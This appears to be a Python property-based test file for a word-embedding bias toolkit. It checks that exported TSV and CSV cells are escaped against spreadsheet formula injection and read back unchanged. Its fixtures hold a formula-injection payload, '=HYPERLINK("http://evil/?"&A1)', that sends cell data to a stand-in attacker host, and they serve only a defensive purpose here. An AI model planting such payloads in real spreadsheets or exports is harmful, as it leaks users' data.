"""No cell that we write is a formula to a spreadsheet, and every cell reads back as it was."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.models import HashedEncoder

import weatherglass as wg
from weatherglass.audit.folder import RunFolder
from weatherglass.catalogue.words import read_words
from weatherglass.reliability.tables import write_tables
from weatherglass.report.multiverse import specifications_tsv
from weatherglass.report.tables import comma_separated
from weatherglass.storage.printable import defused, restored, tsv_line

STARTS = "=+-@\t\r"
TEXTS = st.text() | st.builds(
    lambda quotes, start, rest: "'" * quotes + start + rest,
    st.integers(0, 3), st.sampled_from(STARTS), st.text(max_size=8),
)  # fmt: skip
NUMBERS = st.floats().map(repr) | st.integers().map(str)
FORMULA = '=HYPERLINK("http://evil/?"&A1)'


@given(TEXTS)
@example("'")
@example("''=1")
@example("'-0.3")
def test_every_text_reads_back_as_it_was_and_none_is_run(text: str) -> None:
    cell = defused(text)
    assert restored(cell) == text
    try:
        float(cell)
    except ValueError:
        assert not cell.startswith(tuple(STARTS))


@given(NUMBERS)
@example("-0.3")
@example("+1e-300")
def test_a_number_stays_a_number(number: str) -> None:
    assert defused(number) == number


@given(st.lists(TEXTS | NUMBERS, min_size=2, max_size=5))
def test_a_line_with_tabs_is_one_row_of_the_same_cells(texts: list[str]) -> None:
    line = tsv_line(texts)
    assert line.count("\n") == 1
    (row,) = csv.reader(io.StringIO(line, newline=""), delimiter="\t")
    spaced = [text.translate({9: " ", 10: " ", 13: " "}) for text in texts]
    assert [restored(cell) for cell in row] == spaced


@given(st.lists(TEXTS | NUMBERS, min_size=1, max_size=8))
def test_tables_of_studies_read_back_as_they_were(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("tables")
    words = [text.replace("\r", "r") for text in texts]  # polars reads a lone \r as a line break
    write_tables(folder, {"words": pl.DataFrame({"word": words, "score": [-0.5] * len(words)})})
    content = (folder / "words.tsv").read_text(encoding="utf-8")
    _, *rows = csv.reader(io.StringIO(content, newline=""), delimiter="\t")
    assert [restored(row[0]) for row in rows] == words
    assert all(row[1] == "-0.500000" for row in rows)
    for word, row in zip(words, rows, strict=True):
        assert row[0] == defused(word)
    assert pl.read_parquet(folder / "words.parquet")["word"].to_list() == words


def test_the_files_of_a_run_hold_no_formula(tmp_path: Path) -> None:
    run = wg.run(HashedEncoder(), "weat6")
    result = replace(run.results[0], model=FORMULA, value=-0.3)
    with RunFolder(tmp_path) as folder:
        folder.write_table([result])
    (row,) = csv.DictReader(io.StringIO((tmp_path / "results.tsv").read_text(), newline=""), delimiter="\t")
    assert row["model"] == f"'{FORMULA}"
    assert restored(row["model"]) == FORMULA
    assert float(row["effect_size"]) == -0.3
    (row,) = csv.DictReader(io.StringIO(comma_separated([replace(run, results=[result])])))
    assert restored(row["model"]) == FORMULA != row["model"]
    assert float(row["effect_size"]) == -0.3


def test_the_table_of_a_multiverse_holds_no_formula() -> None:
    one = {"target_list": "@SUM(A1)", "d": -0.25, "published": True}
    text = specifications_tsv([{"model": FORMULA, "topic": "-2+3", "specifications": [one]}])
    (row,) = csv.DictReader(io.StringIO(text), delimiter="\t")
    assert (row["model"], row["topic"], row["target_list"]) == (f"'{FORMULA}", "'-2+3", "'@SUM(A1)")
    assert float(row["d"]) == -0.25


def test_a_table_of_words_reads_back_its_words(tmp_path: Path) -> None:
    words = ["=1+1", "-dash", "'tis", "'=x", "nurse"]
    lines = [tsv_line(["word", "fact"]), *(tsv_line([word, "-1"]) for word in words)]
    (tmp_path / "words.tsv").write_text("".join(lines), encoding="utf-8")
    assert read_words(tmp_path / "words.tsv", "fact").words == dict.fromkeys(words, -1.0)
